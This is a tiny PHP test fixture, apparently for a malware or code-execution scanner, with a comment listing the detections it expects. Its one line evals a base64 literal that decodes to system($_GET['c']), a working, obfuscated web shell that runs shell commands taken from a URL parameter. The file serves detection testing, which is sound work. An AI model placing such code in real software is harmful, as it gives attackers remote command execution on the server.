<?php
// A payload decoded from a literal is parsed and analysed again.
// want: php_decoded_code_exec php_request_command_exec
eval(base64_decode('c3lzdGVtKCRfR0VUWydjJ10pOw=='));
